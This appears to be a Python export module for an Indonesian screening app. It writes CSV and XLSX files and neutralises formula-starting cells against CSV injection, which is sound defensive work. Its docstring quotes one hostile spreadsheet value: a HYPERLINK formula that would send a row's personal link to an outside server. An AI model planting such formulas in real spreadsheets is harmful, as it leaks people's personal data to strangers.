"""The one writer of every spreadsheet the app hands out, as CSV or XLSX.

Cells carry what people typed: a roster name such as `=HYPERLINK("http://…"&F2,"Buka")` would run
as a formula in the operator's Excel and send the row's personal link to a stranger's server.
Following OWASP's advice on CSV injection, every text cell that starts with `=`, `+`, `-`, `@`,
a tab or a carriage return is written with a leading apostrophe, so Excel and LibreOffice show it
as text. Numbers stay numbers (a negative number is no formula). The roster reader strips that
apostrophe again (screening/roster/values.py `text`), so a file handed back reads as it went out.

Plain Python, CSV and XlsxWriter: no Flask, so the CLI and the views write the same bytes.
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime

# What makes a spreadsheet treat a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DATE_FORMAT = "DD/MM/YYYY"


@dataclass(frozen=True)
class Column:
    """One column of an export: its title, its width in XLSX (characters), and whether its
    digits must stay text (a NIK or a phone number: Excel drops leading zeros and rounds 16-digit
    numbers)."""

    title: str
    width: float | None = None
    as_text: bool = False


def neutralise(value):
    """`value`, with text that a spreadsheet would run as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell_text(value) -> str:
    """A cell as CSV text, the way Indonesian Excel writes it (dates day first)."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        if value.time() == datetime.min.time():
            return value.strftime("%d/%m/%Y")
        return value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def _columns(columns: Sequence[Column | str]) -> list[Column]:
    return [c if isinstance(c, Column) else Column(c) for c in columns]


def write_csv(rows: Iterable[Sequence], columns: Sequence[Column | str]) -> bytes:
    """Semicolon-separated UTF-8 with a byte order mark: what Indonesian Excel opens cleanly
    (the comma is the decimal mark there)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([neutralise(c.title) for c in _columns(columns)])
    for row in rows:
        writer.writerow([cell_text(neutralise(value)) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def write_xlsx(
    rows: Iterable[Sequence], columns: Sequence[Column | str], sheet_title: str
) -> bytes:
    """One sheet: a bold title row, then the rows; dates as dates, numbers as numbers, text as
    text that never becomes a formula.

    XlsxWriter, row by row (`constant_memory`): a whole kecamatan's chase list is some 150,000
    cells, and openpyxl's writer took about four times as long for them."""
    # Imported here: the app's start-up does not need it.
    import xlsxwriter

    columns = _columns(columns)
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(
        buffer,
        {
            "constant_memory": True,
            "in_memory": True,
            # Text stays text, whatever it looks like: never a formula, a link or a number.
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        },
    )
    sheet = workbook.add_worksheet(sheet_title)
    formats = {
        "title": workbook.add_format({"bold": True}),
        "date": workbook.add_format({"num_format": DATE_FORMAT}),
        "text": workbook.add_format({"num_format": "@"}),
    }
    for index, column in enumerate(columns):
        if column.width:
            sheet.set_column(index, index, column.width)
    for index, column in enumerate(columns):
        sheet.write_string(0, index, _xlsx_text(column.title), formats["title"])
    for number, row in enumerate(rows, start=1):
        for index, value in enumerate(row):
            as_text = index < len(columns) and columns[index].as_text
            _write_cell(sheet, number, index, value, as_text=as_text, formats=formats)
    workbook.close()
    return buffer.getvalue()


# What XML (so XLSX) cannot hold: the C0 control characters but tab, line feed and return.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx_text(text: str) -> str:
    # Show where a control character was rather than refuse the whole file. A carriage return
    # is a line break, as XML readers take it (XlsxWriter would write it as an escape that only
    # Excel reads back).
    text = text.replace("\r\n", "\n")
    return neutralise(_ILLEGAL.sub("\ufffd", text)).replace("\r", "\n")


def _write_cell(sheet, row: int, column: int, value, *, as_text: bool, formats: dict) -> None:
    if value is None:
        return
    if isinstance(value, datetime | date):
        sheet.write_datetime(row, column, value, formats["date"])
    elif isinstance(value, bool):
        sheet.write_boolean(row, column, value)
    elif isinstance(value, int | float) and not as_text:
        sheet.write_number(row, column, value)
    else:
        text = _xlsx_text(cell_text(value))
        sheet.write_string(row, column, text, formats["text"] if as_text else None)
